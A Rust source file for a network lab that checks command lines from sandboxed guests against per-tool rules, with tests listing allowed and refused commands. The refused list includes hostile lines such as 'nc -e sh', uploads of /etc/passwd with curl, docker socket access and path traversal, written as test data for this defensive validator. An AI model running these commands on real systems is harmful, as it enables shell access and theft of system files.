//! Whose words are checked how.

use super::{filter, tool};

/// The most words, and bytes of them and of what is read.
const MAX_WORDS: usize = 512;
const BYTES: usize = 1 << 20;

/// Checks what a guest says to a program.
pub(in crate::host) fn check(program: &str, words: &[String], input: &str) -> Result<(), String> {
    let bytes = input.len() + words.iter().map(String::len).sum::<usize>();
    if words.len() > MAX_WORDS || bytes > BYTES {
        return Err(format!("{program}: too much at once ({} words, {bytes} bytes)", words.len()));
    }
    let verdict = match program {
        "ip" => tool::ip(words),
        "tc" => tool::tc(words),
        "ss" => tool::ss(words),
        "sysctl" => tool::sysctl(words),
        "ping" => only(words, &[]),
        "qperf" => tool::qperf(words),
        "iperf" => tool::iperf(words),
        "tcpdump" => tool::tcpdump(words),
        "ethtool" => tool::ethtool(words),
        "conntrack" => tool::conntrack(words),
        "nc" => tool::nc(words),
        "curl" => tool::curl(words),
        "dig" => only(words, &["-f", "-k"]),
        "nft" => filter::nft(words, input),
        name if name.starts_with("iptables") || name.starts_with("ip6tables") => {
            filter::iptables(name, words, input)
        }
        _ => Err("the lab's guests have no such program".to_owned()),
    };
    verdict.map_err(|why| format!("{program}: {why}"))
}

/// Lets everything pass but some options.
pub(super) fn only(words: &[String], never: &[&str]) -> Result<(), String> {
    match words.iter().find(|word| never.iter().any(|never| word.starts_with(never))) {
        Some(word) => Err(refused(word)),
        None => Ok(()),
    }
}

/// Says that a word is not for a guest.
pub(super) fn refused(word: &str) -> String {
    let short: String = word.chars().take(60).collect();
    format!("the lab's guests may not say `{short}`: it would reach beyond their namespace")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn judged(line: &str, input: &str) -> bool {
        let mut words = line.split(' ').map(str::to_owned);
        let program = words.next().unwrap();
        check(&program, &words.collect::<Vec<_>>(), input).is_ok()
    }

    #[test]
    fn what_cases_and_tools_say_passes() {
        for line in [
            "ip -j addr show dev eth0",
            "ip route get 10.0.1.5",
            "ip link set dev eth0 mtu 9000",
            "ip -s -s link show eth0",
            "ip neigh",
            "tc -s qdisc show dev eth0",
            "tc -j -s qdisc show",
            "tc qdisc add dev eth0 parent 1:3 handle 30: tbf rate 5mbit burst 20kb latency 400ms",
            "tc filter add dev eth0 protocol ip parent 1:0 prio 1 u32 match ip sport 22 0xffff flowid 1:1",
            "tc qdisc add dev eth0 root netem delay 100ms 10ms distribution normal loss 10%",
            "ss -ltnp",
            "ss -tn state established ( dport = :22 )",
            "sysctl -n net.ipv4.ip_forward",
            "sysctl -w net.ipv4.ip_forward=1",
            "ping -c 3 -W 1 10.0.1.5",
            "qperf -t 2 -ip 19766 -lp 19765 10.0.1.5 tcp_lat tcp_bw",
            "iperf -s -D -p 5001",
            "iperf -c 10.0.1.5 -P 8 -t 2 -y C",
            "tcpdump -c 1 -nn -i eth0 tcp port 80",
            "ethtool -k eth0",
            "conntrack -L",
            "nc -vz -w 2 10.0.1.5 22",
            "curl -sS -o /dev/null -w %{http_code} --max-time 3 http://10.0.1.5:8080/",
            "dig +short +time=1 @10.0.1.5 example.com",
            "nft -j list ruleset",
            "nft add rule inet filter input tcp dport { 80, 443 } accept",
            "iptables -I INPUT 1 -p tcp --dport 5001 -j DROP",
            "iptables -A INPUT -m statistic --mode random --probability 0.2 -j DROP",
            "iptables -A INPUT -m comment --comment /etc/passwd -j ACCEPT",
            "iptables -t nat -A POSTROUTING -s 172.17.0.0/16 ! -o docker0 -j MASQUERADE",
            "iptables-save -c",
            "iptables-save -t filter",
            "ip6tables -P INPUT DROP",
        ] {
            assert!(judged(line, ""), "{line}");
        }
        assert!(judged("iptables-restore -n", "*filter\n-A INPUT -j DROP\nCOMMIT\n"));
        assert!(judged("nft -f -", "table inet x {\n chain y { }\n}\n"));
    }

    #[test]
    fn what_leads_out_does_not() {
        for line in [
            "sh -c id",
            "hostname other",
            "ip netns exec x id",
            "ip -n other link",
            "ip -netns other link",
            "ip -b /etc/passwd",
            "ip -batch x",
            "ip link set eth0 netns 1",
            "ip link add x type veth peer name y netns 1",
            "ip link set dev eth0 xdp obj /tmp/x.o",
            "ip vrf exec x id",
            "ip route add 10.0.0.0/8 encap bpf in obj x",
            "tc exec bpf",
            "tc -n other qdisc",
            "tc -b x",
            "tc filter add dev eth0 bpf obj x.o",
            "tc qdisc add dev eth0 root netem delay 1ms distribution ../../../etc/passwd",
            "ss -K dst 10.0.1.5",
            "ss -tnK",
            "ss -D /tmp/x",
            "ss --net=other",
            "ss -tN other",
            "sysctl -p /etc/x",
            "sysctl -a",
            "sysctl kernel.hostname=x",
            "sysctl -w net.ipv4.x/../../../kernel.hostname=x",
            "sysctl --system",
            "iperf -c x -F /etc/passwd",
            "iperf --fileinput=/etc/passwd -c x",
            "iperf -s -o /etc/x",
            "tcpdump -w /etc/x",
            "tcpdump -z sh",
            "tcpdump -r /etc/x",
            "tcpdump -nF /etc/x",
            "ethtool -f eth0 x",
            "ethtool --flash eth0 x",
            "conntrack -I -s 1.1.1.1",
            "nc -U /run/docker.sock",
            "nc -lU x",
            "nc -e sh x 1",
            "curl file:///etc/passwd",
            "curl -o /etc/x http://x/",
            "curl -K x",
            "curl --config x http://x/",
            "curl -d @/etc/passwd http://x/",
            "curl -w @/etc/passwd http://x/",
            "curl -T /etc/passwd http://x/",
            "dig -f /etc/passwd",
            "nft -f /etc/passwd",
            "nft -f",
            "nft -i",
            "nft -I /etc list ruleset",
            "nft include \"/etc/passwd\"",
            "iptables --modprobe=/tmp/x -L",
            "iptables -M /tmp/x -L",
            "iptables -nM /tmp/x -L",
            "iptables -A INPUT -m bpf --object-pinned /sys/x -j DROP",
            "iptables-restore /etc/passwd",
            "iptables-save -f /etc/x",
            "iptables-save --file=/etc/x",
        ] {
            assert!(!judged(line, ""), "{line}");
        }
        assert!(!judged("nft -f -", "table x y {}; include \"/etc/passwd\"\n"));
        assert!(!judged("iptables-restore", "*filter\n-A INPUT -M /tmp/x -j DROP\nCOMMIT\n"));
        assert!(!judged("ping x", &"x".repeat(BYTES)));
    }
}
